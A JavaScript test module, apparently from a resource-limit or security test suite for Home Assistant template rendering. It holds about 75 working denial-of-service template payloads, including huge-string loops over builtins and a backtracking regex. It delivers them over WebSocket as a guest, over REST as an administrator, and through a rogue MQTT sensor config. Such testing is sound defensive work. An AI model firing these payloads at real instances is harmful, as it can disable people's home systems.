// Templates whose builtins process long texts, from a read-only user, an administrator and a device.
import { maskedFrame } from '../load/frame-reader.js';
import { openMqttAttacker, publishPacket } from './attacker-mqtt.js';
import { openAttacker, pause } from './attacker-socket.js';

const LONG = "{% set t='%a'*500000 %}";
const again = (body, before = LONG) => `${before}{% for i in range(99999) %}{% set x=${body} %}{% endfor %}`;

/** Templates that only a limit ends; the names are those of the rows. */
const LOOPS = {
  urlencode: again('t|urlencode'),
  slugify: again('slugify(t)'),
  'in on long texts': again('q in t', "{% set t='a'*1000000 %}{% set q='a'*500000~'b' %}"),
  trim: again('t|trim', "{% set t=' '*1000000 %}"),
  float: again('t|float(0)', "{% set t='1'*1000000 %}"),
};

/** Builtins that the review found to exceed the limit, in turn. */
const OTHERS = [
  again('t|forceescape'),
  again("{'a': t}|xmlattr", "{% set t='<'*1000000 %}"),
  again('t|base64_encode'),
  again('t.upper()'),
  again('t.casefold()'),
  again('t.swapcase()'),
  again('t.istitle()'),
  again('t.isalnum()'),
  again('t.isidentifier()'),
  again("t.strip('%a')"),
  again("t.encode('utf-16')"),
  again("t.find('b')"),
  again('t.startswith(t)'),
  again('t < u', "{% set t='a'*1000000 %}{% set u='a'*999999~'b' %}"),
  again('t|striptags', "{% set t='<a>'*300000 %}"),
  again('t|wordcount', "{% set t='a '*500000 %}"),
  again('t|truncate(999999)'),
  again('t|int(0)', "{% set t='1'*1000000 %}"),
  again('t|bool(false)'),
  again('is_number(t)', "{% set t='1'*1000000 %}"),
  again('as_datetime(t, none)', "{% set t='2026-01-01 00:00:00'~' '*1000000 %}"),
  again('version(t)', "{% set t='1.'*400000~'1' %}"),
  again('t|length', "{% set t='😀'*500000 %}"),
  again('t[400000]', "{% set t='😀'*500000 %}"),
  again('t[::-1]', "{% set t='😀'*500000 %}"),
  again('l|sum', '{% set l=range(99999)|list %}'),
  again('l == m', '{% set l=range(99999)|list %}{% set m=range(99999)|list %}'),
  again('l|reverse|list', '{% set l=range(99999)|list %}'),
  again('now().strftime(t)', "{% set t='%Y'*300000 %}"),
  again('0|timestamp_custom(t)', "{% set t='%Y'*300000 %}"),
  again('l|join', "{% set l=['a'*10000]*90 %}"),
  again("t|replace('%', 'aa')"),
  again("t.split('a')"),
  again("t|regex_replace('(a|%)+$', '')"),
  again("t|regex_findall('a')"),
  again('t|to_json'),
  again('j|from_json', "{% set j='['~'1,'*400000~'1]' %}"),
  again('t|md5'),
  again('t|wordwrap(5)', "{% set t='a '*300000 %}"),
  again('t|indent(4, true)', "{% set t='\\n'*500000 %}"),
  again('t|title'),
  again('t|center(999999)', "{% set t='a' %}"),
  again('t ~ t'),
  again('t % ()', "{% set t='%%'*400000 %}"),
  again('t.format(1)', "{% set t='{0}'*300000 %}"),
  again('l|sort', '{% set l=range(99999)|list %}'),
  again('l|unique|list', '{% set l=range(99999)|list %}'),
  again('2 ** 99999 % 7', ''),
  again('states|list', ''),
  again("expand('group.all', states)|list", ''),
  again('t|list'),
  again('t.translate({})'),
  again('t.zfill(999999)', "{% set t='1' %}"),
  again('t.expandtabs(8)', "{% set t='\\t'*100000 %}"),
  again('t.splitlines()', "{% set t='\\n'*500000 %}"),
  again("t.count('a')"),
  again("t.partition('b')"),
  again('t|e'),
  again("t is match('(a*)*b')", "{% set t='a'*100000 %}"),
  again("t is search('b')"),
  again('ns|tojson', '{% set ns=range(99999)|list %}'),
  again('levenshtein(t, t)', "{% set t='a'*10000 %}"),
  again("combine({'a': l}, {'b': l})", '{% set l=range(99999)|list %}'),
  again("l|map('string')|list", '{% set l=range(99999)|list %}'),
  again('l|batch(2)|list', '{% set l=range(99999)|list %}'),
  again('l|median', '{% set l=range(99999)|list %}'),
  again('l|average', '{% set l=range(99999)|list %}'),
  again('set(l)', '{% set l=range(99999)|list %}'),
  again('union(l, l)', '{% set l=range(99999)|list %}'),
  again('flatten([l, l])', '{% set l=range(99999)|list %}'),
  again('shuffle(l)', '{% set l=range(99999)|list %}'),
  again("pack(t, '>s')"),
];

const SOCKETS = 2;

/**
 * Renders templates in turn over two sockets, each as soon as the previous response arrives; pauses after
 * errors.
 */
async function renderInTurns({ url, tokens }, { until, tally }, texts) {
  let turn = 0;
  await Promise.all(Array.from({ length: SOCKETS }, () => oneSocket()));

  async function oneSocket() {
    const socket = await openAttacker({ url, token: tokens.guest });
    for (let id = 1; performance.now() < until && socket.isOpen; id += 1) {
      const template = texts[turn % texts.length];
      turn += 1;
      const before = socket.answers;
      await socket.write(
        maskedFrame(JSON.stringify({ id, type: 'render_template', template, report_errors: true })),
      );
      tally.sent += 1;
      await Promise.race([socket.answered(before + 1), pause(until - performance.now())]);
      tally.answers += socket.answers - before;
      await pause(20);
    }
    if (!socket.isOpen) tally.ended += 1;
    socket.destroy();
  }
}

const rows = Object.entries(LOOPS).map(([name, text]) => ({
  name: `attack: template of ${name}, read-only`,
  run: (home, span) => renderInTurns(home, span, [text]),
}));

/** Renders over REST as an administrator, two at a time. */
async function renderOverRest({ url, tokens }, { until, tally }) {
  const one = async () => {
    while (performance.now() < until) {
      tally.sent += 1;
      const response = await fetch(`${url}/api/template`, {
        method: 'POST',
        headers: { authorization: `Bearer ${tokens.admin}` },
        body: JSON.stringify({ template: LOOPS.urlencode }),
      });
      await response.text();
      tally.answers += 1;
    }
  };
  await Promise.all([one(), one()]);
}

/** A sensor with an expensive value template, and messages of a megabyte for it. */
async function templateOfDevice({ broker }, { until, tally }) {
  const client = await openMqttAttacker(broker);
  const config = {
    name: 'Long',
    unique_id: 'attack_long',
    state_topic: 'attack/long',
    value_template: `{{ (value${'|urlencode'.repeat(10)})[:10] }}`,
    device: { identifiers: ['attack'], name: 'Attack' },
  };
  await client.write(publishPacket('homeassistant/sensor/attack_long/config', JSON.stringify(config)));
  await pause(300);
  const message = publishPacket('attack/long', '%'.repeat(1_000_000));
  while (performance.now() < until && client.isOpen) {
    await client.write(message);
    tally.sent += 1;
    await pause(50);
  }
  if (!client.isOpen) tally.ended += 1;
  client.destroy();
}

export const templateAttacks = [
  ...rows,
  {
    name: 'attack: templates of 70 other builtins in turns, read-only',
    run: (home, span) => renderInTurns(home, span, OTHERS),
  },
  { name: 'attack: template of urlencode over REST, administrator', run: renderOverRest },
  { name: 'attack: value_template of ten urlencode and 1 MB messages, MQTT', run: templateOfDevice },
];
